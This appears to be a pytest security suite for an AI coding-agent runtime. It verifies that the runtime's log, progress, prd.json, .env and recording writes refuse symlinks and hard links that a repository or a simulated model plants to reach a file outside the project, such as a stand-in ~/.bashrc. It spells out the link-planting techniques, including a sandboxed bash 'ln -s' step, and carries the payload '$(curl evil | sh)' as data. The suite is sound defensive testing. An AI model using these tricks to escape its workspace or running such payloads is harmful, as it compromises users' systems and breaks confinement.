"""Files the runtime writes under a project never lead outside it (issue 24, finding 3; decision 0301).

Everything below a project root is input from whoever wrote it: the repository, or a model working
in it. These attacks plant links, hard links and foreign files where the PRD loop and the asset
loader write (``.daedalus/prds/<name>/events.jsonl``, ``progress.md``, ``agent.log`` and its
rotation, ``prd.json``, ``.daedalus`` itself, ``.jido``), either in the repository before the run
or during an iteration (a provider standing in for a model that made them through its tools), and
are judged by a canary file outside the project: it keeps its bytes, and nothing new appears next
to it.

One system for the module: engine, asset loader and the prd service on a real nats-server, real
git, one project per test. The provider is the test's: it does what the attack needs in the project
and finishes the iteration at once. These writes are the services' own, on the host, so only the
test where the model makes its links with the bash tool, in the real sandbox, is parametrised over
bubblewrap and Landlock.
"""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio

from jidocode.services.prd import service as prd_service
from jidocode.services.prd.config import PrdConfig
from jidocode.services.prd.files import AGENT_LOG_MAX_BYTES
from jidocode.services.prd.loop import LoopSettings
from jidocode.services.prd.providers.base import (
    IterationRequest,
    IterationResult,
    Provider,
    ProviderCapabilities,
    ProviderEvent,
)
from jidocode.services.prd.store import LoopRecord, LoopStore, loop_key
from jidocode.services.registry import serve_many
from jidocode.shared.bus import Bus
from jidocode.shared.clients import AssetsClient, EngineClient
from jidocode.shared.clients._prd import PrdClient
from jidocode.shared.config import Config
from jidocode.shared.errors import InvalidInput
from jidocode.shared.events.prd import StoryDraft
from jidocode.shared.natsserver import NatsServer
from jidocode.shared.policy import Policy
from jidocode.shared.trust import trust_project
from tests.helpers import wait_for_services
from tests.integration.prd.helpers import WAIT, Events, git, git_repo
from tests.security.sandbox_support import MODES, output, sh, skip_unless, write_global

pytestmark = pytest.mark.asyncio(loop_scope="module")

#: The canary's content: a shell start-up file without a final newline (a torn-line repair of a
#: file reached through a link would cut all of it).
CANARY = b"export PATH=$HOME/bin:$PATH\nalias ll='ls -l'"

Attack = Callable[[Path], None]


# --- a provider that does what the attack needs ---------------------------------------------------


class _Run:
    def __init__(self, attack: Attack | None, work_dir: Path, works: bool) -> None:
        self.attack = attack
        self.work_dir = work_dir
        self.works = works

    async def events(self) -> AsyncIterator[ProviderEvent]:
        yield ProviderEvent(kind="iteration_started")
        if self.attack is not None:
            self.attack(self.work_dir)  # what the model did in the project through its tools
        if self.works:  # the story's own work: a pass needs a change, and then the loop writes its files
            with (self.work_dir / "work.txt").open("a") as work:
                work.write("done\n")
        for n in range(3):  # events the loop writes after the attack
            yield ProviderEvent(kind="assistant_text", text=f"working {n}")
        yield ProviderEvent(kind="iteration_finished", ok=True, text="done")

    async def result(self) -> IterationResult:
        return IterationResult(ok=True, summary="done", done=True)

    async def cancel(self) -> None:
        pass


@dataclass
class AttackingProvider:
    """``attacks[prd]`` runs in the iteration of PRD ``prd`` (on its work dir)."""

    attacks: dict[str, Attack] = field(default_factory=dict)
    #: the PRDs whose iterations also do the story's work (a change in the work dir)
    works: set[str] = field(default_factory=set)

    def name(self) -> str:
        return "attacker"

    def capabilities(self) -> ProviderCapabilities:
        return ProviderCapabilities(streaming=True, tool_calls=True, sandbox_control=False)

    async def run_iteration(self, request: IterationRequest) -> _Run:
        prd = request.metadata.get("prd", "")
        return _Run(self.attacks.get(prd), Path(request.work_dir), prd in self.works)


# --- the system -------------------------------------------------------------------------------------


@dataclass
class Project:
    project_id: str
    root: Path
    prds: PrdClient
    events: Events

    def prd_dir(self, name: str) -> Path:
        return self.root / ".daedalus" / "prds" / name

    async def create(self, name: str) -> Path:
        await self.prds.create(name, title=name, stories=[StoryDraft(title="the only story")])
        return self.prd_dir(name)


@dataclass
class System:
    bus: Bus
    base: Path
    home: Path
    provider: AttackingProvider

    async def project(self, name: str, prepare: Callable[[Path], None] | None = None) -> Project:
        """A new git repository (``prepare`` shapes it and its commit), trusted and started."""
        root = git_repo(self.base / name)
        if prepare is not None:
            prepare(root)
            git(root, "add", "--all")
            git(root, "commit", "-q", "-m", "hostile content")
        trust_project(root, home=self.home)
        info = await EngineClient(self.bus).start_project(str(root), timeout=30)
        events = Events()
        await events.follow(self.bus, info.project_id)
        return Project(info.project_id, root, PrdClient(self.bus, info.project_id, timeout=30), events)

    def canary(self, name: str) -> Path:
        """A file outside every project (standing in for ``~/.bashrc``)."""
        path = self.base / "outside" / name / "bashrc"
        path.parent.mkdir(parents=True)
        path.write_bytes(CANARY)
        return path

    async def settled(self, project: Project, name: str) -> LoopRecord:
        """The loop record of ``name`` once its loop no longer runs (watched on its KV key)."""
        store = await LoopStore.open(self.bus)
        watcher = await store.kv.watch(loop_key(project.project_id, name))
        try:

            async def ended() -> LoopRecord:
                async for entry in watcher:
                    if entry is not None and entry.value:
                        record = LoopRecord.model_validate_json(entry.value)
                        if record.info.state != "running":
                            return record
                raise AssertionError("the watch ended")

            return await asyncio.wait_for(ended(), WAIT)
        finally:
            await watcher.stop()  # type: ignore[no-untyped-call]

    async def run_refused(self, project: Project, name: str) -> InvalidInput | None:
        """``prd run name``'s refusal; ``None`` when it ran (then once its loop ended, so that what
        it wrote is on disk when the test looks at the side effects first)."""
        try:
            await project.prds.run(name)
        except InvalidInput as exc:
            return exc
        await self.settled(project, name)
        return None


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def system(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[System]:
    base = tmp_path_factory.mktemp("hostfiles")
    home = base / "home"
    home.mkdir()
    (home / "settings.json").write_text(json.dumps({"prd": {"retry": {"max_retries": 0}}}))
    server = NatsServer(store_dir=base / "js", sync="default").start()
    saved = os.environ.get("JIDO_CODE_HOME")
    os.environ["JIDO_CODE_HOME"] = str(home)
    config = Config(nats_url=server.url, jido_home=home, instance="test")
    provider = AttackingProvider()

    def resolve(key: str, project_id: str, cfg: PrdConfig) -> Provider:
        return provider

    stop = asyncio.Event()
    services = asyncio.create_task(serve_many(config, stop, names=("engine", "asset_loader")))
    prd = asyncio.create_task(
        prd_service.serve(
            config, stop, resolve_provider=resolve, settings=LoopSettings(heartbeat_s=0.5, lease_s=600.0)
        )
    )
    try:
        await wait_for_services(config, timeout=90, names=("engine", "asset_loader", "prd"))
        bus = await Bus.connect(config, "test")
        try:
            yield System(bus, base, home, provider)
        finally:
            await bus.close()
    finally:
        stop.set()
        await asyncio.wait_for(asyncio.gather(services, prd), 30)
        server.stop()
        if saved is None:
            os.environ.pop("JIDO_CODE_HOME", None)
        else:
            os.environ["JIDO_CODE_HOME"] = saved


def _untouched(canary: Path, content: bytes = CANARY) -> None:
    """The canary keeps its bytes, and nothing new appeared beside it."""
    assert canary.read_bytes() == content, "the file outside the project was written"
    assert [p.name for p in canary.parent.iterdir()] == [canary.name]


# --- events.jsonl ----------------------------------------------------------------------------------


@pytest.mark.parametrize("final_newline", [False, True], ids=["torn", "whole"])
async def test_an_event_log_linked_outside_gets_nothing_appended_and_is_never_cut(
    system: System, final_newline: bool
) -> None:
    project = await system.project(f"evlink-{final_newline}")
    canary = system.canary(f"bashrc-{final_newline}")
    if final_newline:
        canary.write_bytes(CANARY + b"\n")
    before = canary.read_bytes()
    prd_dir = await project.create("x")
    (prd_dir / "events.jsonl").symlink_to(canary)
    refused = await system.run_refused(project, "x")
    _untouched(canary, before)  # no `$(…)` appended, no "torn line" cut
    assert refused is not None and "events.jsonl is a symbolic link" in refused.message
    assert refused.details["file"] == str(prd_dir / "events.jsonl")
    assert (prd_dir / "events.jsonl").is_symlink()  # left as it was


async def test_a_run_refused_for_its_event_log_leaves_no_running_loop_behind(system: System) -> None:
    """The refusal ends the claimed loop in ``error`` (not ``running`` until its lease runs out), so
    the next run after the link is removed starts at once instead of being refused as a conflict."""
    project = await system.project("evrefused")
    canary = system.canary("bashrc-refused")
    prd_dir = await project.create("x")
    (prd_dir / "events.jsonl").symlink_to(canary)
    refused = await system.run_refused(project, "x")
    assert refused is not None
    record = await system.settled(project, "x")
    assert record.info.state == "error" and "symbolic link" in record.info.error
    (prd_dir / "events.jsonl").unlink()
    assert await system.run_refused(project, "x") is None  # ran: no Conflict with a phantom loop
    _untouched(canary)


async def test_an_event_log_hard_linked_to_a_file_outside_is_refused(system: System) -> None:
    project = await system.project("evhard")
    canary = system.canary("bashrc-hard")
    prd_dir = await project.create("x")
    os.link(canary, prd_dir / "events.jsonl")
    refused = await system.run_refused(project, "x")
    _untouched(canary)
    assert refused is not None and "events.jsonl has 2 names (hard links)" in refused.message


async def test_a_file_in_place_of_the_event_log_that_the_loop_did_not_write_is_not_cut(
    system: System,
) -> None:
    project = await system.project("evforeign")
    prd_dir = await project.create("x")
    notes = b"my own notes, kept here by hand\nthe last line has no newline"
    (prd_dir / "events.jsonl").write_bytes(notes)
    refused = await system.run_refused(project, "x")
    assert (prd_dir / "events.jsonl").read_bytes() == notes  # not cut to its last newline
    assert refused is not None and "events.jsonl was not written by the runtime" in refused.message


async def test_an_event_log_swapped_for_a_link_between_two_writes(system: System) -> None:
    project = await system.project("evswap")
    canary = system.canary("bashrc-swap")
    prd_dir = await project.create("x")
    log = prd_dir / "events.jsonl"

    def swap(_work: Path) -> None:  # the model, mid-run: the loop has written events already
        assert log.read_bytes().count(b"\n") >= 1
        log.rename(prd_dir / "events.jsonl.old")
        log.symlink_to(canary)

    system.provider.attacks["x"] = swap
    await project.prds.run("x")
    record = await system.settled(project, "x")
    _untouched(canary)
    # the next run does not follow the link either (nor cuts the canary's last line)
    system.provider.attacks.pop("x")
    refused = await system.run_refused(project, "x")
    _untouched(canary)
    assert record.info.state == "error" and "events.jsonl was replaced" in record.info.error
    assert refused is not None and "events.jsonl is a symbolic link" in refused.message
    lines = (prd_dir / "events.jsonl.old").read_bytes().splitlines()
    assert lines and all(json.loads(line)["data"]["prd"] == "x" for line in lines)


@pytest.mark.parametrize("mode", MODES)
async def test_links_a_model_makes_in_its_sandbox_are_not_followed_by_the_loop(
    system: System, mode: str, tmp_path: Path
) -> None:
    skip_unless(mode)
    project = await system.project(f"sandboxed-{mode}")
    canary = system.canary(f"sandboxed-{mode}")
    prd_dir = await project.create("x")
    jido_home = tmp_path / "jido_home"
    write_global(jido_home, {"mode": mode})
    policy = Policy.build(str(project.root), jido_home=str(jido_home), home=str(tmp_path))
    # the model's bash call, in the sandbox: .daedalus is not protected, and a link may point anywhere
    made = await sh(
        policy,
        f"cd .daedalus/prds/x && ln -s {canary} events.jsonl && ln -s {canary} agent.log && echo linked",
    )
    assert output(made).strip().endswith("linked")
    assert (prd_dir / "events.jsonl").is_symlink()
    refused = await system.run_refused(project, "x")
    _untouched(canary)
    assert refused is not None and "events.jsonl is a symbolic link" in refused.message


# --- progress.md, agent.log, prd.json ------------------------------------------------------------


def _plant(kind: str, target: Path, at: Path) -> None:
    if at.exists():
        at.unlink()
    if kind == "symlink":
        at.symlink_to(target)
    else:
        os.link(target, at)


@pytest.mark.parametrize("kind", ["symlink", "hardlink"])
@pytest.mark.parametrize("name", ["progress.md", "agent.log", "prd.json"])
async def test_a_prd_file_made_a_link_by_the_model_is_refused(system: System, name: str, kind: str) -> None:
    prd = f"{name.split('.')[0].replace('_', '-')}-{kind}"
    project = await system.project(f"file-{prd}")
    canary = system.canary(f"target-{prd}")
    prd_dir = await project.create(prd)
    system.provider.attacks[prd] = lambda _work: _plant(kind, canary, prd_dir / name)
    system.provider.works.add(prd)  # the story passes as far as writing progress.md
    await project.prds.run(prd)
    record = await system.settled(project, prd)
    _untouched(canary)
    assert record.info.state == "error", record.info
    assert name in record.info.error and (
        "symbolic link" in record.info.error or "2 names" in record.info.error
    )


async def test_agent_log_rotation_never_writes_through_the_old_generation(system: System) -> None:
    project = await system.project("rotation")
    canary = system.canary("target-rotation")
    prd_dir = await project.create("x")
    (prd_dir / "agent.log").write_bytes(b"x" * (AGENT_LOG_MAX_BYTES - 10) + b"\n")  # the next entry rotates
    (prd_dir / "agent.log.1").symlink_to(canary)
    system.provider.works.add("x")
    await project.prds.run("x")
    record = await system.settled(project, "x")
    system.provider.works.discard("x")  # other tests' PRDs named x do no work
    assert record.info.state == "completed", record.info
    _untouched(canary)
    assert not (prd_dir / "agent.log.1").is_symlink()
    assert (prd_dir / "agent.log.1").stat().st_size == AGENT_LOG_MAX_BYTES - 9
    assert (prd_dir / "agent.log").read_text().startswith("--- ")


# --- the directories -------------------------------------------------------------------------------


@pytest.mark.parametrize("link", [".daedalus", ".daedalus/prds"])
async def test_a_daedalus_directory_linked_outside_is_refused(system: System, link: str) -> None:
    outside = system.base / "outside-dirs" / link.replace("/", "_")
    outside.mkdir(parents=True)
    project = await system.project(f"dir-{link.replace('/', '_').strip('.')}")
    (project.root / link).parent.mkdir(parents=True, exist_ok=True)
    (project.root / link).symlink_to(outside)
    with pytest.raises(InvalidInput, match=rf"{link} is a symbolic link or not a directory"):
        await project.create("x")
    with pytest.raises(InvalidInput, match=rf"{link} is a symbolic link or not a directory"):
        await project.prds.run("x")
    assert list(outside.iterdir()) == []  # nothing made or written outside


async def test_a_repositorys_jido_link_gets_no_folders_made_outside(system: System) -> None:
    outside = system.base / "outside-jido"
    outside.mkdir()

    def hostile(root: Path) -> None:
        (root / ".jido").symlink_to(outside)

    project = await system.project("jidolink", hostile)
    await AssetsClient(system.bus, project.project_id).list(timeout=30)  # the assets are loaded
    assert list(outside.iterdir()) == []


# --- the CLI's own writes into the folder it runs in (often a project) -----------------------------


async def test_deploy_env_never_writes_passwords_through_a_link(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from jidocode.cli.deploy import app

    project = tmp_path / "project"
    project.mkdir()
    readable = tmp_path / "outside" / "public.txt"  # e.g. a file the model (or anyone) can read
    readable.parent.mkdir()
    readable.write_bytes(CANARY)
    (project / ".env").symlink_to(readable)
    result = CliRunner().invoke(app, ["env", "--out", str(project / ".env"), "--force"])
    _untouched(readable)
    assert result.exit_code == 2 and ".env is a symbolic link" in result.output
    assert (project / ".env").is_symlink()


async def test_a_replay_recording_never_overwrites_through_a_link(tmp_path: Path) -> None:
    from jidocode.cli.replay import Recording, RecordingHeader, write_recording

    project = tmp_path / "project"
    project.mkdir()
    bashrc = tmp_path / "outside" / "bashrc"
    bashrc.parent.mkdir()
    bashrc.write_bytes(CANARY)
    target = project / "01conversation.jsonl"  # `replay export`'s default name, in the cwd
    target.symlink_to(bashrc)
    recording = Recording(
        header=RecordingHeader(project_id="p", conversation_id="01conversation", entries=0, answers=0),
        entries=[],
        answers=[],
        projections={"text": "$(curl evil | sh)"},
    )
    refused: InvalidInput | None = None
    try:
        write_recording(target, recording)
    except InvalidInput as exc:
        refused = exc
    _untouched(bashrc)
    assert refused is not None and "01conversation.jsonl is a symbolic link" in refused.message
    write_recording(project / "kept.jsonl", recording)  # a plain file is written as before
    assert (
        json.loads((project / "kept.jsonl").read_text().splitlines()[0])["conversation_id"]
        == "01conversation"
    )
